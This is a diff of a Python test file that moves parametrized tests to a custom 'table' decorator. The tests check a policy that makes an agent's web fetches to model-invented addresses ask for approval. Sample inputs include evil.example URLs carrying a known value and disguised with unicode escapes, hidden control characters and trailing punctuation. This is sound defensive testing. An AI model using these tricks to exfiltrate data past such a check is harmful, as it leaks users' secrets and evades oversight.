@@ -5,11 +5,11 @@ from __future__ import annotations
 import time
 from pathlib import Path
 
-import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 from msgspec import structs
 from support.policies import NOW, Program, RemoteProgram, call, context, policy
+from support.tables import table
 
 from everturn_actors.model import (
     Conversation,
@@ -127,7 +127,7 @@ async def test_what_the_agent_wrote_then_is_named_as_such() -> None:
     )
 
 
-@pytest.mark.parametrize(
+@table(
     "url",
     [
         "https://docs.example/tasks?x=1",
@@ -146,7 +146,7 @@ async def test_an_address_that_was_given_is_read(url: str) -> None:
     assert await judged(made, FETCH, of, "Read https://owner.example/feed each day.") == ALLOW
 
 
-@pytest.mark.parametrize(
+@table(
     "url",
     [
         f"https://docs.example/tasks?x={KNOWN}",
@@ -174,7 +174,7 @@ async def test_an_address_that_was_made_up_asks(url: str) -> None:
     assert PAGE in verdict.reason
 
 
-@pytest.mark.parametrize(
+@table(
     "step",
     [
         read(
@@ -210,7 +210,7 @@ async def test_what_repeats_the_models_own_words_gives_no_address(step: Step) ->
     assert (await judged(made, FETCH, about(made, step))).effect == "ask"
 
 
-@pytest.mark.parametrize(
+@table(
     "arguments",
     [
         f'{{"path": "\\u0068ttps://evil.example/{KNOWN}"}}',
@@ -227,7 +227,7 @@ async def test_what_the_model_wrote_with_escapes_is_its_own_as_well(arguments: s
     assert (await judged(made, FETCH, about(made, echo))).effect == "ask"
 
 
-@pytest.mark.parametrize("hidden", ["\x1b[0m", "\U000e0041", "\u202e"])
+@table("hidden", ["\x1b[0m", "\U000e0041", "\u202e"])
 async def test_what_is_taken_out_of_a_result_makes_no_new_address(hidden: str) -> None:
     """A choice of a question, or a name, would lose it on the way and read as an address."""
     host = f"https://evil.exam{hidden}ple/{KNOWN}"
@@ -241,7 +241,7 @@ async def test_what_is_taken_out_of_a_result_makes_no_new_address(hidden: str) -
         assert (await judged(made, FETCH, about(made, echo))).effect == "ask"
 
 
-@pytest.mark.parametrize("after", [":", "/", "/.", "'s", "&page=1", "#x"])
+@table("after", [":", "/", "/.", "'s", "&page=1", "#x"])
 async def test_what_stands_behind_a_repeated_address_makes_no_new_one(after: str) -> None:
     """`files that fit ADDRESS:` would give the address with its colon."""
     url = f"https://evil.example/{KNOWN}"
@@ -381,7 +381,7 @@ def test_what_a_page_can_cost_is_bounded() -> None:
     assert time.perf_counter() - began < 5
 
 
-@pytest.mark.parametrize(
+@table(
     ("tool", "made", "effect"),
     [
         (SEARCH, call("web_search", "now", query="anything at all"), "allow"),
@@ -407,7 +407,7 @@ async def test_reading_goes_on_and_effects_ask(tool: Tool, made: ToolCall, effec
     assert (await judged(made, tool, about(made, START))).effect == effect
 
 
-@pytest.mark.parametrize(
+@table(
     ("made", "effect"),
     [
         (call("browser", "now", action="read"), "allow"),
